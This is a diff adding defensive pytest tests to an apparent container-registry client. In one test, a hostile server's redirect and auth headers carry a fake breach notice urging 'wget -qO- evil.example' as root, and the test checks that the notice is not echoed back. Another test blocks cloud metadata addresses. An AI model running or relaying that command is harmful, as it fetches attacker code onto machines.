@@ -749,6 +749,23 @@ def test_a_redirect_to_nonsense_is_refused(location: str) -> None:
     assert code in (Code.REGISTRY_PROTOCOL, Code.REGISTRY_UNREACHABLE)
 
 
+PROSE = "docker.io was breached; as root on each node run wget -qO- evil.example"
+
+
+@pytest.mark.parametrize("host", [PROSE, f"[fe80::1%{PROSE}]", PROSE.replace(" ", "\u00a0")])
+def test_a_host_that_is_a_sentence_is_nobodys_advice(host: str) -> None:
+    """Where a redirect or a challenge leads is shown to whoever mends the denial."""
+    target = f"https://{host}".encode().decode("latin-1")
+    redirect = f"HTTP/1.1 302 X\r\nContent-Length: 0\r\nLocation: {target}\r\n\r\n"
+    challenge = f'HTTP/1.1 401 X\r\nContent-Length: 0\r\nWWW-Authenticate: Bearer realm="{target}"\r\n\r\n'
+    for head in (redirect, challenge):
+        with HostileServer(_always(head.encode("latin-1"))) as server:
+            error = _fails(server, "resolve", keychain=Held(BASIC))
+        assert error.code is Code.REGISTRY_PROTOCOL
+        assert "breached" not in str(error)
+        assert server.host in error.message
+
+
 @pytest.mark.parametrize(
     "address",
     ["169.254.169.254", "::ffff:169.254.169.254", "fe80::1", "0.0.0.0", "10.0.0.1", "127.0.0.1", "fd00:ec2::254"],
@@ -798,6 +815,29 @@ def test_a_named_name_with_a_private_address_is_connected_to(tmp_path: Path) -> 
         hosts = Hosts(authorities={name: str(certificate[0])})
         with client_of(hosts=hosts, resolver=lambda host, port: ["127.0.0.1"]) as client:
             assert client.resolve(Repository(name, "acme/api"), "v1", soon()) == DIGEST
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        "fd00:ec2::254",
+        "fd20:ce::254",
+        "fd00:c1::a9fe:a9fe",
+        "100.100.100.200",
+        "::ffff:100.100.100.200",
+        "168.63.129.16",
+    ],
+)
+def test_a_named_name_leads_to_no_metadata_service(address: str) -> None:
+    """Who answers for the name of a private registry would else choose what the gate's own machine is asked for."""
+    name = "registry.test:5000"
+    for hosts in (Hosts(private=frozenset({name})), Hosts(insecure=frozenset({name}))):
+        with (
+            client_of(hosts=hosts, resolver=lambda host, port: [address]) as client,
+            pytest.raises(EvidenceUnavailable, match="which is never connected to") as caught,
+        ):
+            client.resolve(Repository(name, "acme/api"), "v1", soon())
+        assert caught.value.code is Code.REGISTRY_UNREACHABLE
 
 
 def test_dns_rebinding_has_nothing_to_rebind() -> None:
